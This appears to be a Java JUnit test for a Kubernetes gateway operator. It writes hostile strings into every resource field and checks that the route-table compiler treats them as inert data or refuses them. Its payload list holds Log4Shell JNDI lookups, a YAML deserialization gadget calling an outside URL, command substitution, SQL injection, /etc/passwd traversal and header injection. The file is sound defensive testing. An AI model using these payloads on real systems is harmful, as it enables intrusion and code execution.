package dev.moorgate.operator.compile;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.moorgate.operator.conditions.Finding;
import dev.moorgate.operator.crd.DataPlane;
import dev.moorgate.operator.snapshot.ClusterSnapshot;
import dev.moorgate.operator.snapshot.SnapshotBuilder;
import dev.moorgate.routetable.wire.TableReader;
import dev.moorgate.routetable.wire.TableWriter;
import io.fabric8.kubernetes.api.model.GenericKubernetesResource;
import io.fabric8.kubernetes.api.model.HasMetadata;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.SortedSet;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/**
 * Hostile text in every field of every kind that is read (fault I9): it is data, or refused; it is never evaluated, harms no neighbour,
 * and neither breaks the table nor a line that people read. The fields come from the types: a new one is tried by itself, in the golden
 * object that comes nearest to having it.
 */
class HostileTextTest {
    private static final Path GOLDEN = Path.of("src/test/resources/golden");
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final int LONGEST_MESSAGE = 32_768;
    private static final int MIB = 1 << 20;

    /** Each field gets the first and the last one, and one of the others in turn. */
    private static final List<String> TEXTS = List.of(
            "a\r\nX-Evil: 1\r\n\r\n\u0000\u001b[31m\"'`;|&{}{{7*7}}${7*7}#{7*7}%{7*7}<%= 7*7 %>${jndi:ldap://192.0.2.66/a}\u2028\u0085",
            "${jndi:ldap://192.0.2.66/a}",
            "!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://192.0.2.66/\"]]",
            "&a [*a, *a, <<: *a]",
            "${env:HOME}$(id)`id`",
            "'; DROP TABLE routes; --",
            "\u0455h\u043ep\uff0f\u0441art\u2024example\u202e\u200b\ufeff",
            "../../../etc/passwd%00%2e%2e%2f",
            "\ud800",
            "-",
            "\u0130\u0131\u212a",
            "a".repeat(MIB));

    private static final String NEIGHBOUR = """
            apiVersion: gateway.networking.k8s.io/v1
            kind: GatewayClass
            metadata: {name: neighbour}
            spec: {controllerName: moorgate.dev/gateway-controller}
            ---
            apiVersion: gateway.networking.k8s.io/v1
            kind: Gateway
            metadata: {namespace: neighbour, name: zz}
            spec:
              gatewayClassName: neighbour
              listeners: [{name: http, port: 8088, protocol: HTTP}]
            ---
            apiVersion: gateway.networking.k8s.io/v1
            kind: HTTPRoute
            metadata: {namespace: neighbour, name: zz}
            spec:
              parentRefs: [{name: zz}]
              hostnames: [neighbour.example]
              rules: [{backendRefs: [{name: zz, port: 80}]}]
            ---
            apiVersion: networking.k8s.io/v1
            kind: IngressClass
            metadata: {name: neighbour}
            spec: {controller: moorgate.dev/ingress-controller}
            ---
            apiVersion: networking.k8s.io/v1
            kind: Ingress
            metadata: {namespace: neighbour, name: zz}
            spec:
              ingressClassName: neighbour
              rules:
                - host: neighbour-ingress.example
                  http:
                    paths:
                      - {path: /, pathType: Prefix, backend: {service: {name: zz, port: {number: 80}}}}
            ---
            apiVersion: v1
            kind: Service
            metadata: {namespace: neighbour, name: zz}
            spec: {ports: [{name: http, port: 80, targetPort: 8080}]}
            ---
            apiVersion: discovery.k8s.io/v1
            kind: EndpointSlice
            metadata: {namespace: neighbour, name: zz-1, labels: {kubernetes.io/service-name: zz}}
            addressType: IPv4
            ports: [{name: http, port: 8080}]
            endpoints: [{addresses: [192.0.2.77], conditions: {ready: true}}]
            """;

    private static final GoldenCase NEIGHBOURS = neighbours();

    /** An object of a golden case. */
    private record Place(GoldenCase in, int at, ObjectNode object) {}

    @TestFactory
    Stream<DynamicTest> textIsDataOrRefusedInEveryFieldOfEveryKind() {
        List<Place> places = places();
        return SnapshotBuilder.kinds().stream()
                .map(kind -> DynamicTest.dynamicTest(kind.getSimpleName(), () -> attack(kind, places)));
    }

    private static List<Place> places() {
        List<Place> places = new ArrayList<>();
        try (Stream<Path> folders = Files.list(GOLDEN)) {
            // where classes belong to another release, so do the neighbour's
            for (Path folder : folders.filter(
                            one -> !one.getFileName().toString().startsWith("release-"))
                    .sorted()
                    .toList()) {
                GoldenCase in = GoldenCase.read(folder.resolve("in.yaml"));
                List<GenericKubernetesResource> objects = in.objects();
                for (int i = 0; i < objects.size(); i++) {
                    places.add(new Place(in, i, JSON.valueToTree(objects.get(i))));
                }
            }
            return places;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void attack(Class<? extends HasMetadata> kind, List<Place> all) throws Exception {
        List<Place> places = new ArrayList<>(all.stream()
                .filter(place -> place.object().path("kind").asText().equals(HasMetadata.getKind(kind)))
                .toList());
        if (places.isEmpty()) {
            places.add(fresh(kind, all.getFirst().in()));
        }
        SortedSet<String> fields = TextFields.of(kind);
        assertThat(fields).isNotEmpty();
        Map<GoldenCase, Compilation> before = new HashMap<>();
        int turn = 0;
        for (String field : fields) {
            List<String> steps = TextFields.steps(field);
            Place place = nearest(places, steps);
            Compilation whole = before.computeIfAbsent(place.in(), in -> compile(in, in.objects()));
            int other = 1 + turn++ % (TEXTS.size() - 2);
            for (int text : new int[] {0, other, TEXTS.size() - 1}) {
                ObjectNode object = place.object().deepCopy();
                TextFields.put(object, steps, TEXTS.get(text));
                attack(kind, field + " text " + text, place, object, whole);
            }
        }
    }

    /** Of a kind that no golden case has, beside what one has. */
    private static Place fresh(Class<? extends HasMetadata> kind, GoldenCase in) {
        ObjectNode object = JSON.createObjectNode();
        object.put("apiVersion", HasMetadata.getApiVersion(kind)).put("kind", HasMetadata.getKind(kind));
        object.putObject("metadata").put("namespace", "shop").put("name", "web");
        return new Place(in, in.objects().size(), object);
    }

    private static Place nearest(List<Place> places, List<String> steps) {
        Place best = places.getFirst();
        int deepest = -1;
        for (Place place : places) {
            int depth = TextFields.depth(place.object(), steps);
            if (depth > deepest) {
                best = place;
                deepest = depth;
            }
        }
        return best;
    }

    private static void attack(
            Class<? extends HasMetadata> kind, String what, Place place, ObjectNode object, Compilation before)
            throws Exception {
        List<GenericKubernetesResource> objects = new ArrayList<>(place.in().objects());
        if (place.at() == objects.size()) {
            objects.add(JSON.convertValue(object, GenericKubernetesResource.class));
        } else {
            objects.set(place.at(), JSON.convertValue(object, GenericKubernetesResource.class));
        }
        if (!GoldenCase.shapeViolations(objects.get(place.at())).isEmpty()) {
            return; // the schema refuses it, as an API server would
        }
        Compilation after;
        try {
            after = compile(place.in(), objects);
        } catch (IllegalArgumentException refused) {
            assertThat(refused).as(what).hasMessageNotContaining("\n").message().hasSizeLessThan(LONGEST_MESSAGE);
            return; // whoever reads manifests refuses it
        }
        assertThat(ofNeighbour(kind, after)).as(what).isEqualTo(ofNeighbour(kind, before));
        assertThat(TableReader.routeTable(TableWriter.WIRE.write(after.table())))
                .as(what)
                .isEqualTo(after.table());
        assertThat(TableReader.endpointTable(TableWriter.WIRE.write(after.endpoints())))
                .as(what)
                .isEqualTo(after.endpoints());
        for (Finding error : after.report().errors()) {
            readable(what, error.message());
        }
        after.report().statuses().values().forEach(status -> messages(what, JSON.valueToTree(status.render())));
    }

    /** What the table has for the neighbour; the settings of a DataPlane hold for all. */
    private static Set<Object> ofNeighbour(Class<? extends HasMetadata> kind, Compilation compilation) {
        // How many listeners share it is for all Ingresses to say.
        Set<Object> found = new LinkedHashSet<>();
        compilation
                .table()
                .listeners()
                .forEach(listener -> listener.virtualHosts()
                        .forEach(host -> host.routes().stream()
                                .filter(route -> route.source().namespace().equals("neighbour"))
                                .forEach(route -> {
                                    found.add(List.of(host.host(), route.match(), route.forward()));
                                    if (kind != DataPlane.class) {
                                        found.add(route);
                                    }
                                })));
        compilation.endpoints().upstreams().stream()
                .filter(upstream -> upstream.upstream().startsWith("neighbour/"))
                .forEach(found::add);
        assertThat(found).isNotEmpty();
        return found;
    }

    private static void messages(String what, JsonNode node) {
        node.properties().forEach(entry -> {
            if (entry.getKey().equals("message")) {
                readable(what, entry.getValue().asText());
            } else if (entry.getKey().equals("effective")) {
                entry.getValue().forEach(value -> readable(what, value.asText()));
            } else {
                messages(what, entry.getValue());
            }
        });
        if (node.isArray()) {
            node.forEach(item -> messages(what, item));
        }
    }

    private static void readable(String what, String message) {
        assertThat(message.codePoints().noneMatch(Character::isISOControl))
                .as("%s: no control character in: %s", what, message)
                .isTrue();
        assertThat(message.length()).as(what).isLessThanOrEqualTo(LONGEST_MESSAGE);
    }

    private static Compilation compile(GoldenCase in, List<GenericKubernetesResource> objects) {
        List<GenericKubernetesResource> all = new ArrayList<>(objects);
        all.addAll(NEIGHBOURS.objects());
        ClusterSnapshot snapshot = in.snapshot(all);
        return new RouteTableCompiler().compile(snapshot, in.settings(snapshot));
    }

    private static GoldenCase neighbours() {
        try {
            return GoldenCase.parse(NEIGHBOUR);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
